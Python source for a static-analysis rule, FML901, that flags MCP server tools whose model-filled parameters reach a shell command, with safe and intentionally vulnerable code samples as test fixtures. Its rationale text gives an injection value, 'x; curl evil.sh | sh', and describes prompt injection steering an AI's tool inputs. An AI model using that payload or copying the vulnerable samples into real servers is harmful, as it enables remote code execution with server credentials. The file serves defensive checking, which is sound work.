"""FML901 shell-injection-from-tool-input."""

from __future__ import annotations

from fastmcp_preflight.api import Invalid, ToolInputRule, Valid


class ShellInjectionFromToolInput(ToolInputRule):
    """Tool input reaches a shell command."""

    code = "FML901"
    name = "shell-injection-from-tool-input"
    severity = "error"
    checklist = "(security)"
    tags = ("security",)
    security_severity = 9.0
    summary = "tool input reaches a shell command"
    what = (
        "Finds, in the body of a tool, resource or prompt function, a value derived from its "
        "parameters given as the command to `os.system`, `os.popen`, `subprocess.getoutput`, "
        "`subprocess.getstatusoutput`, `asyncio.create_subprocess_shell`, or to "
        "`subprocess.run/call/check_call/check_output/Popen` called with `shell=True`, or "
        "as the command string of an argument list (to those functions, or the arguments "
        "of `asyncio.create_subprocess_exec`) that starts a shell interpreter (`sh`, `bash`, "
        "`zsh`, `dash`, `ksh`, `powershell`, `pwsh`, `cmd`, `cmd.exe`, also by path) with "
        "its command flag (`-c`, combined flags such as `-lc`, `-Command`, `/c`): the element "
        "right after the flag; values passed later, as the script's positional arguments "
        "(`[\"sh\", \"-c\", 'grep \"$1\" log', \"sh\", pattern]`), are safe. A "
        "value is derived when it is a parameter (not `self`, `cls` or the Context), or an "
        "f-string, `+`/`%` building, `.format(...)`, `str(...)`, `os.path.join(...)` or "
        "`Path(...)` with a derived part, a subscript, attribute or method call of a derived "
        "value, or a local name assigned one earlier in the function. The result of any other "
        "call is clean (`shlex.quote(host)`, a helper); values derived only from parameters "
        "annotated `int`, `float`, `bool`, `Literal[...]`, an `Enum` subclass, `uuid.UUID`, "
        "`datetime.date`/`datetime.datetime` or `decimal.Decimal` (also `X | None`, "
        "`Optional[X]`, `Annotated[X, ...]`) are never reported, since pydantic validates "
        "them. Not reported: any other argument list without `shell=True`; a call after "
        "comparisons (`in`, `not in`, `==`, `!=`), "
        "`.startswith(...)` or calls of functions named like a check (`allow`, `safe`, "
        "`valid`, `check`, `ensure`, `verify`, `sanitiz`) that mention values derived from "
        "each parameter the command comes from (a check of one parameter does not cover "
        "another). Reported at the call."
    ) + ToolInputRule.THROUGH_THE_PROJECT
    why = (
        "The model fills tool parameters, and whoever writes the web page, issue or file the "
        "model reads can steer it. A shell interprets `;`, `&&`, `$(...)` and backticks in "
        "the command it is given, so `ping {host}` with the host `x; curl evil.sh | sh` runs "
        "the attacker's commands on the server, with its credentials."
    )
    instead = (
        "Run the program with an argument list and no shell "
        "(`subprocess.run([\"ping\", \"-c\", \"1\", host])`, "
        "`asyncio.create_subprocess_exec(...)`), so the input stays one argument; check "
        "values against an allow-list before using them."
    )
    hint = "pass an argument list with `shell=False` (the default), and check the value first"

    VALID = (
        # The input is a positional argument of a fixed script, not the command string.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef grep_log(pattern: str) -> str:\n"
              "    cmd = ['sh', '-c', 'grep -- \"$1\" /var/log/app.log', 'sh', pattern]\n"
              "    return subprocess.run(cmd, capture_output=True, text=True).stdout\n"),
        # An int cannot carry a command.
        Valid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n@mcp.tool\n"
              "def tail(lines: int = 20) -> int:\n"
              "    return os.system(f'tail -n {lines} /var/log/app.log')\n"),
        # An argument list without shell=True: the input stays one argument.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef ping(host: str) -> str:\n"
              "    \"\"\"Ping a host.\"\"\"\n"
              "    result = subprocess.run(['ping', '-c', '1', host], capture_output=True)\n"
              "    return result.stdout.decode()\n"),
        # An allow-list check before the shell.
        Valid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\nSERVICES = "
              "{'web', 'db'}\n\n@mcp.tool\ndef restart(service: str) -> int:\n"
              "    if service not in SERVICES:\n        raise ValueError(service)\n"
              "    return os.system(f'systemctl restart {service}')\n"),
        # A sanitizer helper: its result is clean.
        Valid("import shlex\nimport subprocess\nfrom fastmcp import FastMCP\n\n"
              "mcp = FastMCP('x')\n\n@mcp.tool\ndef grep(pattern: str) -> str:\n"
              "    quoted = shlex.quote(pattern)\n"
              "    return subprocess.check_output(f'grep -r {quoted} .', shell=True).decode()\n"),
        # A check named like one (validate_...) guards the later call.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef build(target: str) -> str:\n    validate_target(target)\n"
              "    return subprocess.getoutput('make ' + target)\n"),
        # Not a tool: a helper's parameters are not followed across functions.
        Valid("import os\n\ndef run(command: str) -> int:\n    return os.system(command)\n"),
        # Constant command; the parameter is only the working directory.
        Valid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
              "@mcp.tool\ndef status(repo: str) -> str:\n"
              "    return subprocess.run('git status', shell=True, cwd=repo, text=True,\n"
              "                          capture_output=True).stdout\n"),
    )
    INVALID = (
        # Through the project: the shell is in a helper the tool gives its input to.
        Invalid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "def run(command):\n    return os.system(command)\n\n@mcp.tool\n"
                "def ping(host: str) -> int:\n    return run(f'ping -c 1 {host}')\n",
                at=((11, 12),)),
        # A shell interpreter given a command string built from tool input.
        Invalid("import subprocess\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\ndef run_script(script: str) -> str:\n"
                "    return subprocess.run(['/bin/bash', '-lc', f'cd /srv && {script}'],\n"
                "                          capture_output=True, text=True).stdout\n",
                at=((8, 12),)),
        Invalid("import asyncio\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\nasync def ps(command: str) -> None:\n"
                "    args = ['pwsh', '-NoProfile', '-Command', command]\n"
                "    proc = await asyncio.create_subprocess_exec(*args)\n"
                "    await proc.wait()\n"
                "    await asyncio.create_subprocess_exec('cmd.exe', '/C', command)\n",
                at=((11, 11),)),
        Invalid("import os\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\ndef ping(host: str) -> int:\n"
                "    \"\"\"Ping a host.\"\"\"\n"
                "    return os.system(f'ping -c 1 {host}')\n",
                at=((9, 12),)),
        Invalid("import subprocess as sp\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool()\nasync def logs(unit: str, lines: int = 50) -> str:\n"
                "    command = 'journalctl -u ' + unit\n"
                "    command += f' -n {lines}'\n"
                "    return sp.run(command, shell=True, capture_output=True, text=True).stdout\n",
                at=((10, 12),)),
        Invalid("import asyncio\nfrom fastmcp import FastMCP\n\nmcp = FastMCP('x')\n\n"
                "@mcp.tool\nasync def convert(name: str) -> None:\n"
                "    cmd = 'convert {} out.png'.format(name.strip())\n"
                "    proc = await asyncio.create_subprocess_shell(cmd)\n"
                "    await proc.wait()\n",
                at=((9, 18),)),
        # The comparison is about another parameter: it does not guard `pattern`.
        Invalid("from subprocess import getoutput\nfrom fastmcp import FastMCP\n\n"
                "mcp = FastMCP('x')\n\n@mcp.tool\ndef search(pattern: str, mode: str) -> str:\n"
                "    if mode == 'fast':\n        return getoutput('rg ' + pattern)\n"
                "    return getoutput('grep -r ' + pattern)\n",
                at=((9, 16), (10, 12))),
    )
